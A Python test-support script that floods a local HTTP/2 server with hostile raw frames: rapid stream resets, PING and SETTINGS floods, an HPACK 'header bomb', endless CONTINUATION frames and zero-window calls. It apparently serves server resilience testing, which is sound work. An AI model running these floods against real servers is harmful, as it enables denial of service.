"""Hostile HTTP/2 connections, made of raw frames: `python -m tests.support.floods KIND PORT COUNT` runs two threads.

A program of its own, so that the honest caller beside it keeps the interpreter to themselves. It is bounded by COUNT
and by SECONDS, opens a new connection when the server closes one, and prints what it has done.
"""

import itertools
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator

from bench.http2 import (
    END_HEADERS,
    FIRST_WINDOW,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    common_headers,
    frame,
    literal,
)

CONTINUATION = 9
CANCEL = 8
THREADS = 2
SECONDS = 20.0
BATCH = 100  # frames, or pairs of frames, per write
MESSAGE = b"\0\0\0\0\0"
COMMON = common_headers("/livestream.v1.LiveStreamService/GetStream")


def resets(streams: Iterator[int]) -> bytes:
    """A call, and its cancellation at once."""
    stream = next(streams)
    return frame(HEADERS, END_HEADERS, stream, COMMON) + frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4))


def pings(_streams: Iterator[int]) -> bytes:
    """The server must answer each."""
    return frame(PING, 0, 0, bytes(8))


def settings(_streams: Iterator[int]) -> bytes:
    """The server must apply and acknowledge each."""
    return frame(SETTINGS, 0, 0, INITIAL_WINDOW_SIZE.to_bytes(2) + FIRST_WINDOW.to_bytes(4))


def header_bomb(streams: Iterator[int]) -> bytes:
    """A header of 4,000 bytes enters the table, and then one byte for each time that it is repeated: 16 MB in 4 KiB."""
    name, value = b"x-bomb", b"a" * 3900
    entered = b"\x40" + literal(name, value)[1:]  # RFC 7541, 6.2.1: with indexing
    repeated = b"\xbe" * 4096  # RFC 7541, 6.1: index 62, the newest of the dynamic table
    return frame(HEADERS, END_HEADERS, next(streams), COMMON + entered + repeated)


def continuations(streams: Iterator[int]) -> bytes:
    """A header block that never ends."""
    stream = next(streams)
    more = frame(CONTINUATION, 0, stream, literal(b"x-more", b"a" * 1000))
    return frame(HEADERS, 0, stream, COMMON) + 100 * more


def zero_windows(streams: Iterator[int]) -> bytes:
    """Calls whose answers nobody has room for. The preface said so, see `first`."""
    stream = next(streams)
    return frame(HEADERS, END_HEADERS, stream, COMMON) + frame(0, 1, stream, MESSAGE)


KINDS: dict[str, Callable[[Iterator[int]], bytes]] = {
    each.__name__: each for each in (resets, pings, settings, header_bomb, continuations, zero_windows)
}


class Tally:
    """What the threads have done together."""

    def __init__(self, count: int) -> None:
        self._left = count
        self._lock = threading.Lock()
        self.sent = self.connections = self.closed = 0

    def take(self, count: int) -> int:
        """How many more to send, up to `count`."""
        with self._lock:
            taken = min(count, self._left)
            self._left -= taken
            return taken


def attack(kind: str, port: int, tally: Tally) -> None:
    """Send until the tally is used up, over one connection after another."""
    until = time.monotonic() + SECONDS
    while time.monotonic() < until:
        try:
            with socket.create_connection(("127.0.0.1", port), 5) as sock:
                tally.connections += 1
                if not _flood(sock, kind, tally, until):
                    return
        except OSError:
            tally.closed += 1


def _flood(sock: socket.socket, kind: str, tally: Tally, until: float) -> bool:
    """Send on one connection; True if the server has closed it."""
    window = 0 if kind == "zero_windows" else FIRST_WINDOW
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0, INITIAL_WINDOW_SIZE.to_bytes(2) + window.to_bytes(4)))
    sock.sendall(frame(SETTINGS, 1, 0, b""))  # acknowledges what the server is about to send
    threading.Thread(target=_drain, args=(sock,), daemon=True).start()
    streams = itertools.count(1, 2)
    while time.monotonic() < until and (count := tally.take(BATCH)):
        sock.sendall(b"".join(KINDS[kind](streams) for _ in range(count)))
        tally.sent += count
    time.sleep(1)  # for the server, to see it
    return False


def _drain(sock: socket.socket) -> None:
    """Read and forget, so that the server is never the one who waits."""
    try:
        while sock.recv(65_536):
            pass
    except OSError:
        pass


def main() -> None:
    kind, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    tally = Tally(count)
    threads = [threading.Thread(target=attack, args=(kind, port, tally)) for _ in range(THREADS)]
    since = time.monotonic()
    for each in threads:
        each.start()
    for each in threads:
        each.join()
    print(f"{tally.sent} {tally.connections} {tally.closed} {time.monotonic() - since:.1f}", flush=True)


if __name__ == "__main__":
    main()
